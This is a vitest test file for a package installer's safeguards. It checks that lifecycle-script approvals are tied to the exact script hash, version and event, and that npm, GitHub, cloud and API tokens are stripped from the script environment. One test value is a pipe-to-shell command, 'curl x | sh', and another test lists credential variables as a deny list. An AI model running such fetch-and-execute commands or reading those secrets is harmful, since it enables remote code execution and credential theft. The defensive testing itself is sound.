import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { repoRoot } from '../helpers/cli.js';

const dist = (p: string) => path.join(repoRoot, 'dist', p);

describe('approval matching', () => {
  it('matches name@version, event and the sha256 of the exact text; the dependency path is recorded, not matched', async () => {
    const { approveShownScripts, emptyApprovals, isApproved, recordShownScripts } = await import(dist('ledger/approvals.js'));
    const { scriptSha256 } = await import(dist('tree/lifecycle-scripts.js'));
    const shown = { package: 'dep@1.0.0', path: 'p>dep', event: 'postinstall', command: 'node build.js', sha256: scriptSha256('node build.js'), approved: false };
    const { data } = approveShownScripts(recordShownScripts(emptyApprovals(), 'p', [shown]), 'p', { all: true });
    expect(isApproved(data, shown)).toBe(true);
    expect(isApproved(data, { ...shown, path: 'q>x>dep' })).toBe(true);
    expect(isApproved(data, { ...shown, sha256: scriptSha256('node build.js && curl x | sh') })).toBe(false);
    expect(isApproved(data, { ...shown, package: 'dep@1.0.1' })).toBe(false);
    expect(isApproved(data, { ...shown, event: 'preinstall' })).toBe(false);
  });

  it('strips npm, git-host and cloud secrets from the script environment, keeps the rest', async () => {
    const { scriptEnvironment } = await import(dist('install/scripts.js'));
    const env = scriptEnvironment({
      PATH: '/bin',
      HOME: '/home/u',
      NPM_TOKEN: 'x',
      NODE_AUTH_TOKEN: 'x',
      GITHUB_TOKEN: 'x',
      GH_TOKEN: 'x',
      AWS_ACCESS_KEY_ID: 'x',
      GOOGLE_APPLICATION_CREDENTIALS: 'x',
      AZURE_CLIENT_SECRET: 'x',
      'npm_config_//registry.npmjs.org/:_authToken': 'x',
      npm_config__auth: 'x',
      OPENAI_API_KEY: 'x',
      npm_config_registry: 'http://127.0.0.1/',
    });
    expect(Object.entries(env).filter(([, v]) => v !== undefined).map(([k]) => k).sort()).toEqual(['HOME', 'PATH', 'npm_config_registry']);
  });
});
